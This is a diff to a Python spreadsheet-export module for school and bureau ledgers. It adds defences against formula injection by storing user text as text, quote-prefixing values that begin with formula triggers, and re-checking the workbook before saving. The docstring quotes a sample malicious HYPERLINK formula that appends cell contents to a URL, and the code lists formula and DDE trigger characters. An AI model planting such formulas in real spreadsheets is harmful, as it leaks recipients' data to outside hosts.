@@ -3,14 +3,26 @@
 Ledger layout (REFERENCE.md, data conventions): a merged title row, a
 填报单位 / 填报人 / 填报日期 row, 序号 first and 备注 last, a frozen header,
 A4 landscape, ID and phone columns stored as text.
+
+Every value goes into a cell through ``put`` (and ``to_bytes`` checks the
+whole workbook once more before it leaves): a cell holds a value, never a
+formula. Names, addresses and report items are typed by users — a school can
+call itself ``=HYPERLINK("http://…?"&A1,"点击查看")`` — and the bureau opens the
+file in Excel. Text is stored as text (shared string, ``t="s"``), which Excel
+and WPS show and never evaluate; text that would be a formula when typed
+(starting with = + - @, tab, CR, LF or their full-width forms) also carries
+the quote prefix, so editing the cell keeps it text. The value itself is not
+changed: the import reads back exactly what was exported.
 """
 
+import re
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
 from io import BytesIO
 from typing import IO, Any
 
 from openpyxl import Workbook, load_workbook
+from openpyxl.cell import Cell
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
@@ -19,6 +31,11 @@ XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 _THIN = Side(style="thin", color="999999")
 _BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
 _HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
+# What makes Excel, WPS or LibreOffice read typed text as a formula (or a DDE call).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+# Characters an .xlsx cannot hold at all (openpyxl refuses them): shown as U+FFFD.
+_ILLEGAL = re.compile(r"[\000-\010\013\014\016-\037]")
+_MAX_TEXT = 32767  # Excel's limit for one cell
 
 
 @dataclass(frozen=True)
@@ -26,6 +43,28 @@ class Column:
     header: str
     width: int = 14
     text: bool = False  # phone, ID and code columns: keep every digit, no scientific notation
+
+
+def put(cell: Cell, value: Any) -> None:
+    """The one way a value goes into a cell of an export: never a formula."""
+    if isinstance(value, str):
+        text = _ILLEGAL.sub("\ufffd", value)[:_MAX_TEXT]
+        cell.value = text  # openpyxl makes "=…" a formula and "#N/A" an error here
+        cell.data_type = "s"  # so say again that it is text
+        if text.startswith(FORMULA_TRIGGERS):
+            cell.quotePrefix = True
+    else:
+        cell.value = value
+
+
+def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
+    """``ws.append`` for exports: every value through ``put``."""
+    cells = []
+    for value in values:
+        cell = Cell(ws)
+        put(cell, value)
+        cells.append(cell)
+    ws.append(cells)
 
 
 def new_workbook() -> Workbook:
@@ -36,12 +75,12 @@ def new_workbook() -> Workbook:
 
 def write_table(ws: Worksheet, columns: Sequence[Column], rows: Iterable[Sequence[Any]]) -> None:
     """A plain table: header in row 1 (import templates)."""
-    ws.append([c.header for c in columns])
+    append_row(ws, [c.header for c in columns])
     for cell in ws[1]:
         cell.font = Font(bold=True)
         cell.fill = _HEADER_FILL
     for row in rows:
-        ws.append(list(row))
+        append_row(ws, row)
     _format_columns(ws, columns, first_data_row=2)
     ws.freeze_panes = "A2"
 
@@ -57,21 +96,21 @@ def write_ledger(
     """A ledger (台账): title, 填报 row, 序号 … 备注, frozen header, A4 landscape."""
     columns = [Column("序号", 6), *columns, Column("备注", 16)]
     width = len(columns)
-    ws.append([title])
+    append_row(ws, [title])
     ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=width)
     ws["A1"].font = Font(bold=True, size=16)
     ws["A1"].alignment = Alignment(horizontal="center", vertical="center")
     ws.row_dimensions[1].height = 30
-    ws.append(["    ".join(f"{k}：{v}" for k, v in meta)])
+    append_row(ws, ["    ".join(f"{k}：{v}" for k, v in meta)])
     ws.merge_cells(start_row=2, start_column=1, end_row=2, end_column=width)
-    ws.append([c.header for c in columns])
+    append_row(ws, [c.header for c in columns])
     for cell in ws[3]:
         cell.font = Font(bold=True)
         cell.fill = _HEADER_FILL
         cell.border = _BORDER
         cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
     for n, row in enumerate(rows, start=1):
-        ws.append([n, *row, ""])
+        append_row(ws, [n, *row, ""])
     _format_columns(ws, columns, first_data_row=4)
     for row in ws.iter_rows(min_row=4):
         for cell in row:
@@ -93,10 +132,34 @@ def _format_columns(ws: Worksheet, columns: Sequence[Column], first_data_row: in
             for (cell,) in ws.iter_rows(min_row=first_data_row, min_col=i, max_col=i):
                 cell.number_format = "@"
                 if cell.value is not None:
-                    cell.value = str(cell.value)
+                    put(cell, str(cell.value))
+
+
+def write_notes(ws: Worksheet, lines: Sequence[Sequence[str]], widths: Sequence[int]) -> None:
+    """A sheet of notes (an import template's 说明): the first line bold."""
+    for i, width in enumerate(widths, start=1):
+        ws.column_dimensions[get_column_letter(i)].width = width
+    for line in lines:
+        append_row(ws, line)
+    for cell in ws[1]:
+        cell.font = Font(bold=True)
+
+
+def _no_formulas(wb: Workbook) -> None:
+    """The last look before a workbook leaves: a cell that did not come through ``put``
+    (a future export written another way) is made text all the same."""
+    for ws in wb.worksheets:
+        for cell in (c for row in ws.iter_rows() for c in row):
+            value = cell.value
+            if isinstance(value, str) and (
+                cell.data_type != "s"
+                or (value.startswith(FORMULA_TRIGGERS) and not cell.quotePrefix)
+            ):
+                put(cell, value)
 
 
 def to_bytes(wb: Workbook) -> bytes:
+    _no_formulas(wb)
     buffer = BytesIO()
     wb.save(buffer)
     return buffer.getvalue()
